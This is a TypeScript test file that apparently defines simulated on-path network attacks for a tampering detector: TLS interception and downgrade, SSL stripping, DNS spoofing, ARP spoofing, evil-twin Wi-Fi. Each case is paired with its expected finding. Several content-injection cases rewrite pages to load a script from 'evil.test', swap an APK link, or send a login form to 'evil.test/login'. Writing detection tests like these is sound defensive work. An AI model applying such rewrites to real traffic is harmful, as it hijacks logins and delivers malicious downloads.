import type { LinkObservation } from '@vedette/contracts';
import type { ClearMessage } from '@vedette/testkit/in-the-middle';
import { alone, intercept, meddle, misname, rewrite, together } from './in-between.ts';
import { type Case, type Laboratory, ZONE } from './laboratory.ts';

const trustsRogue = ({ rogue }: Laboratory) => ({ trust: [rogue.chain] });
const isOurs = (name: string): boolean => name.endsWith(ZONE);
const isPage = ({ path }: ClearMessage): boolean => path.startsWith('/page/');
const isLogin = ({ path }: ClearMessage): boolean => path.startsWith('/login/');
const offers13 = ({ supportedVersions }: { readonly supportedVersions: readonly number[] }): boolean =>
  supportedVersions.includes(0x0304);
const page =
  (change: (body: string) => string) =>
  (message: ClearMessage): ClearMessage =>
    isPage(message) ? { ...message, body: change(message.body) } : message;
const location =
  (change: (to: string) => string) =>
  (message: ClearMessage): ClearMessage => ({
    ...message,
    headers: message.headers.map(([name, value]) => (/^location$/i.test(name) ? [name, change(value)] : [name, value])),
  });
const html = (status: number, body: string): Pick<ClearMessage, 'status' | 'headers' | 'body'> => ({
  status,
  headers: [['Content-Type', 'text/html']],
  body,
});

/** Greeting in which TLS 1.3 is no longer offered: `supported_versions` says 1.2 twice. */
function without13(bytes: Buffer): Buffer {
  const at = bytes.indexOf(Buffer.from([0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04]));
  if (at < 0) return bytes;
  const changed = Buffer.from(bytes);
  changed[at + 6] = 0x03;
  return changed;
}

const LINK: LinkObservation = {
  gateway: { address: '192.0.2.1', mac: '02:00:00:00:00:66' },
  gatewayMacBefore: '02:00:00:00:00:01',
  gatewayMacs: ['02:00:00:00:00:66'],
  sharedWith: [],
  ipv6Routers: [],
  ipv6RoutersBefore: [],
  proxy: null,
  proxyExpected: false,
  vpn: null,
  wifi: null,
};
/** What a platform would show below; there is no radio and no second host on loopback. */
const linked = (link: Partial<LinkObservation>) =>
  alone({ port: (port) => ({ ...port, link: async () => ({ ...LINK, ...link }) }) });

const RSA_FIRST = 'AES256-SHA:AES128-SHA:ECDHE-RSA-AES256-GCM-SHA384:ECDHE-ECDSA-AES128-GCM-SHA256';
const FEW = 'ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256';

const INTERCEPTIONS: readonly Case[] = [
  {
    name: 'ends TLS, untrusted authority, same greeting as the client',
    setUp: intercept(),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS, trusted authority, same greeting as the client',
    setUp: intercept({}, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS, untrusted, greeting of another library',
    setUp: intercept({ ciphers: FEW }),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS, trusted, greeting of another library',
    setUp: intercept({ ciphers: FEW }, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS, untrusted, loses the protocol negotiation',
    setUp: intercept({ alpn: false }),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS, trusted, loses the protocol negotiation',
    setUp: intercept({ alpn: false }, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS, untrusted, holds to TLS 1.2',
    setUp: intercept({ maxVersion: 'TLSv1.2' }),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS, trusted, holds to TLS 1.2',
    setUp: intercept({ maxVersion: 'TLSv1.2' }, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS with an RSA key and old suites',
    setUp: intercept({ leaf: 'rsa', ciphers: RSA_FIRST, maxVersion: 'TLSv1.2' }),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS, trusted, RSA key',
    setUp: intercept({ leaf: 'rsa' }, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS with one certificate of the right name for all',
    setUp: intercept(async ({ rogue }) => ({ fixed: await rogue.issue([ZONE, `*.p.${ZONE}`], 'alone') })),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS with one certificate of another name',
    setUp: intercept(async ({ rogue }) => ({ fixed: await rogue.issue(['proxy.local'], 'alone') })),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS with an expired certificate',
    setUp: intercept({ leaf: 'expired' }, trustsRogue),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS with the server’s own stolen key',
    setUp: intercept(({ settings }) => ({
      fixed: { chain: settings.certificate?.chain ?? '', key: settings.certificate?.key ?? '', spki: '' },
    })),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS and swallows what is said',
    setUp: intercept({ swallows: true }),
    expect: 'tls.interception.untrusted_ca',
  },
  {
    name: 'ends TLS and swallows what is said, trusted',
    setUp: intercept({ swallows: true }, trustsRogue),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS and changes what the agent reports',
    setUp: intercept(
      { rewrite: (text, from) => (from === 'client' ? text.replace(/"ekmTag":"[0-9a-f]/, '"ekmTag":"0') : text) },
      trustsRogue,
    ),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'ends TLS and forges the signed answer',
    setUp: intercept(
      { rewrite: (text, from) => (from === 'server' ? text.replace(/"statement":"..../, '"statement":"AAAA') : text) },
      trustsRogue,
    ),
    expect: 'tls.interception.trusted_ca',
  },
  {
    name: 'spares the probe, untrusted for others',
    setUp: intercept({ spares: isOurs }),
    expect: 'tls.interception.selective',
  },
  {
    name: 'spares the probe, trusted for others',
    setUp: intercept({ spares: isOurs }, trustsRogue),
    expect: 'tls.interception.selective',
  },
  {
    name: 'reads one bank alone',
    setUp: intercept({ spares: (name) => name !== 'online.bank.example' }, (laboratory) => ({
      ...trustsRogue(laboratory),
      full: true,
    })),
    expect: 'tls.interception.selective',
  },
  {
    name: 'reads the probe alone',
    setUp: intercept({ spares: (name) => !isOurs(name) }),
    expect: 'tls.interception.untrusted_ca',
  },
];

const DOWNGRADES: readonly Case[] = [
  {
    name: 'changes the greeting to TLS 1.2',
    setUp: meddle({ rewriteHello: without13 }),
    expect: 'tls.downgrade_proof',
  },
  {
    name: 'breaks off greetings that offer TLS 1.3',
    setUp: meddle({ onHello: (hello) => (offers13(hello) ? 'reset' : 'pass') }),
    expect: 'tls.downgrade',
  },
  {
    name: 'answers greetings that offer TLS 1.3 with an alert',
    setUp: meddle({ onHello: (hello) => (offers13(hello) ? 'alert' : 'pass') }),
    expect: 'tls.downgrade',
  },
  {
    name: 'swallows greetings that offer TLS 1.3',
    setUp: meddle({ onHello: (hello) => (offers13(hello) ? 'drop' : 'pass') }),
    expect: 'tls.downgrade',
  },
];

const BLOCKS: readonly Case[] = [
  {
    name: 'resets by name',
    setUp: meddle({ onHello: ({ serverName }) => (isOurs(serverName ?? '') ? 'reset' : 'pass') }),
    expect: 'tls.blocked',
  },
  {
    name: 'swallows by name',
    setUp: meddle({ onHello: ({ serverName }) => (isOurs(serverName ?? '') ? 'drop' : 'pass') }),
    expect: 'tls.blocked',
  },
  {
    name: 'ends by name',
    setUp: meddle({ onHello: ({ serverName }) => (isOurs(serverName ?? '') ? 'end' : 'pass') }),
    expect: 'tls.blocked',
  },
  { name: 'resets every greeting', setUp: meddle({ onHello: () => 'reset' }), expect: 'tls.blocked' },
  { name: 'swallows every greeting', setUp: meddle({ onHello: () => 'drop' }), expect: 'tls.blocked' },
  { name: 'answers every greeting with an alert', setUp: meddle({ onHello: () => 'alert' }), expect: 'tls.blocked' },
  {
    name: 'swallows what follows the first bytes',
    setUp: meddle({ cut: { afterBytes: 300, by: 'drop' } }),
    expect: 'tls.blocked',
  },
  {
    name: 'resets after the first bytes',
    setUp: meddle({ cut: { afterBytes: 300, by: 'reset' } }),
    expect: 'tls.blocked',
  },
  {
    name: 'swallows data after the handshake',
    setUp: meddle({ cut: { afterBytes: 1_400, by: 'drop' } }),
    expect: 'tls.blocked',
  },
  {
    name: 'nobody listens on the port',
    setUp: alone({
      elsewhere: { '127.0.0.1': {} },
      target: (target) => target,
      port: (port) => ({ ...port, http: (request) => port.http({ ...request, address: 'clear' }) }),
    }),
    expect: 'tls.blocked',
  },
  {
    name: 'narrows TLS to 700 bytes a second',
    setUp: meddle({ link: { bytesPerSecond: 700 } }),
    expect: 'tls.throttled',
  },
  {
    name: 'narrows TLS to 1,100 bytes a second',
    setUp: meddle({ link: { bytesPerSecond: 1_100 } }),
    expect: 'tls.throttled',
  },
  { name: 'delays each piece of TLS by 900 ms', setUp: meddle({ link: { delayMs: 900 } }), expect: 'tls.throttled' },
];

const CLEAR: readonly Case[] = [
  {
    name: 'follows the way to https itself and shows a page',
    setUp: rewrite({
      answers: (message) =>
        isLogin(message) ? { ...message, ...html(200, '<form action="http://probe.lab.test/login">') } : null,
    }),
    expect: 'http.ssl_strip',
  },
  {
    name: 'sends back to http',
    setUp: rewrite({ onAnswer: location((to) => to.replace('https:', 'http:')) }),
    expect: 'http.ssl_strip',
  },
  {
    name: 'sends to a name with a fourth w',
    setUp: rewrite({ onAnswer: location((to) => to.replace('https://', 'http://wwww.')) }),
    expect: 'http.ssl_strip',
  },
  {
    name: 'takes the s from the links of pages',
    setUp: rewrite({ onAnswer: page((body) => body.replaceAll('https://', 'http://')) }),
    expect: 'http.ssl_strip',
  },
  {
    name: 'takes the s from forms alone',
    setUp: rewrite({ onAnswer: page((body) => body.replace('action="https://', 'action="http://')) }),
    expect: 'http.ssl_strip',
  },
  {
    name: 'adds a script before the end of the body',
    setUp: rewrite({
      onAnswer: page((body) => body.replace('</body>', '<script src="http://evil.test/x.js"></script></body>')),
    }),
    expect: 'http.content_injection',
  },
  {
    name: 'adds a frame at the top',
    setUp: rewrite({ onAnswer: page((body) => body.replace('<body>', '<body><iframe src="//ads.test"></iframe>')) }),
    expect: 'http.content_injection',
  },
  {
    name: 'adds a script behind the end',
    setUp: rewrite({ onAnswer: page((body) => `${body}<script>alert(1)</script>`) }),
    expect: 'http.content_injection',
  },
  {
    name: 'puts another app in the place of one',
    setUp: rewrite({
      onAnswer: page((body) => body.replace(/href="[^"]+\.apk"/, 'href="https://evil.test/update.apk"')),
    }),
    expect: 'http.content_injection',
  },
  {
    name: 'sends the form elsewhere',
    setUp: rewrite({ onAnswer: page((body) => body.replace(/action="[^"]+"/, 'action="https://evil.test/login"')) }),
    expect: 'http.content_injection',
  },
  {
    name: 'changes one letter',
    setUp: rewrite({ onAnswer: page((body) => body.replace('<h1>', '<h1>x')) }),
    expect: 'http.content_injection',
  },
  {
    name: 'serves another page for ours',
    setUp: rewrite({
      answers: (message) => (isPage(message) ? { ...message, ...html(200, '<html>You have won</html>') } : null),
    }),
    expect: 'http.content_injection',
  },
  {
    name: 'changes what the agent sends',
    setUp: rewrite({
      onRequest: (message) =>
        message.path.includes('echo') ? { ...message, body: message.body.replace('canary', 'carrot') } : message,
    }),
    expect: 'http.content_injection',
  },
  {
    name: 'changes the signed echo',
    setUp: rewrite({
      onAnswer: (message) =>
        message.path.includes('echo')
          ? { ...message, body: message.body.replace(/"statement":"eyJ2/, '"statement":"eyJ3') }
          : message,
    }),
    expect: 'http.content_injection',
  },
  {
    name: 'shows a page instead of everything in clear text',
    setUp: rewrite({ answers: (message) => ({ ...message, ...html(200, '<html>Blocked</html>') }) }),
    expect: 'http.blocked',
  },
  {
    name: 'sends everything in clear text to a page',
    setUp: rewrite({
      answers: (message) => ({ ...message, status: 302, headers: [['Location', 'http://blocked.test/']], body: '' }),
    }),
    expect: 'http.blocked',
  },
  {
    name: 'reads pages again from elsewhere',
    setUp: rewrite({ fetchesAgain: true }, { full: true }),
    expect: 'http.monitoring',
  },
];

const ATTACKER = '10.66.66.66';

const NAMES: readonly Case[] = [
  {
    name: 'answers every name with a private address',
    setUp: misname({ answers: () => [{ addresses: [ATTACKER] }] }),
    expect: 'dns.spoofed_answer',
  },
  {
    name: 'answers every name with a public address',
    setUp: misname({ answers: () => [{ addresses: ['198.51.100.66'] }] }),
    expect: 'dns.spoofed_answer',
  },
  {
    name: 'answers with several addresses',
    setUp: misname({ answers: () => [{ addresses: [ATTACKER, '10.66.66.67'] }] }),
    expect: 'dns.spoofed_answer',
  },
  {
    name: 'races: forged first, true after',
    setUp: misname({ answers: () => [{ addresses: [ATTACKER], ttl: 1_024 }], passes: () => true, delayMs: 20 }),
    expect: 'dns.injection_race',
  },
  {
    name: 'races: true first, forged after',
    setUp: misname({ answers: () => [{ addresses: [ATTACKER], afterMs: 60 }], passes: () => true }),
    expect: 'dns.injection_race',
  },
  {
    name: 'races: forged long after',
    setUp: misname({ answers: () => [{ addresses: [ATTACKER], afterMs: 250 }], passes: () => true }),
    expect: 'dns.injection_race',
  },
  {
    name: 'answers with the address of one who ends TLS',
    setUp: together(misname({ answers: () => [{ addresses: [ATTACKER] }] }), async (laboratory) => {
      const { tls = 0, fired, dispose } = await intercept({}, trustsRogue)(laboratory);
      return { fired, dispose, elsewhere: { [ATTACKER]: { tls, http: laboratory.server.ports.http } } };
    }),
    expect: 'dns.spoofed_answer',
  },
  {
    name: 'leads exchanges alone to one who ends TLS',
    setUp: together(
      misname({ answers: (name) => (name.includes('.p.') ? [{ addresses: [ATTACKER] }] : []) }),
      async (laboratory) => {
        const { tls = 0, fired, dispose } = await intercept()(laboratory);
        return { fired, dispose, elsewhere: { [ATTACKER]: { tls, http: laboratory.server.ports.http } } };
      },
    ),
    expect: 'dns.spoofed_answer',
  },
  { name: 'swallows questions', setUp: misname({ answers: () => [], passes: () => false }), expect: 'dns.blocked' },
  { name: 'refuses questions', setUp: misname({ answers: () => [{ rcode: 5 }] }), expect: 'dns.blocked' },
  {
    name: 'says that our names do not exist',
    setUp: misname({ answers: () => [{ rcode: 3 }] }),
    expect: 'dns.blocked',
  },
  {
    name: 'answers our names with nobody',
    setUp: misname({ answers: () => [{ addresses: ['0.0.0.0'] }] }),
    expect: 'dns.blocked',
  },
];

/** Told by what a platform would show: there is no radio and no second host on loopback. */
const BELOW: readonly Case[] = [
  { name: 'passes for the router', setUp: linked({ sharedWith: ['192.0.2.66'] }), expect: 'lan.arp_spoofing' },
  {
    name: 'passes for the router while one looks',
    setUp: linked({
      gatewayMacBefore: null,
      gatewayMacs: ['02:00:00:00:00:01', '02:00:00:00:00:66'],
      sharedWith: ['192.0.2.66'],
    }),
    expect: 'lan.arp_spoofing',
  },
  {
    name: 'announces a router for IPv6',
    setUp: linked({ gatewayMacBefore: '02:00:00:00:00:66', ipv6Routers: ['fe80::66'] }),
    expect: 'lan.rogue_ra',
  },
  {
    name: 'open Wi-Fi with the name of a protected one',
    setUp: linked({
      gatewayMacBefore: null,
      wifi: {
        ssid: 'Office',
        bssid: '02:00:00:00:00:99',
        security: 'open',
        securityBefore: 'wpa2',
        bssidsBefore: ['02:00:00:00:00:98'],
      },
    }),
    expect: 'wifi.evil_twin_suspect',
  },
  {
    name: 'sets a proxy',
    setUp: linked({ gatewayMacBefore: null, proxy: 'http://192.0.2.66/wpad.dat' }),
    expect: 'proxy.injected',
  },
  {
    name: 'sets up a VPN',
    setUp: linked({ gatewayMacBefore: null, vpn: { active: true, expected: false, address: '10.9.0.2' } }),
    expect: 'vpn.unexpected',
  },
  {
    name: 'leads traffic beside the tunnel',
    setUp: linked({ gatewayMacBefore: null, vpn: { active: true, expected: true, address: '10.9.0.2' } }),
    expect: 'vpn.leak',
  },
];

/** Attacks with the finding that says most of each. */
export const ATTACKS: readonly Case[] = [...INTERCEPTIONS, ...DOWNGRADES, ...BLOCKS, ...CLEAR, ...NAMES, ...BELOW];
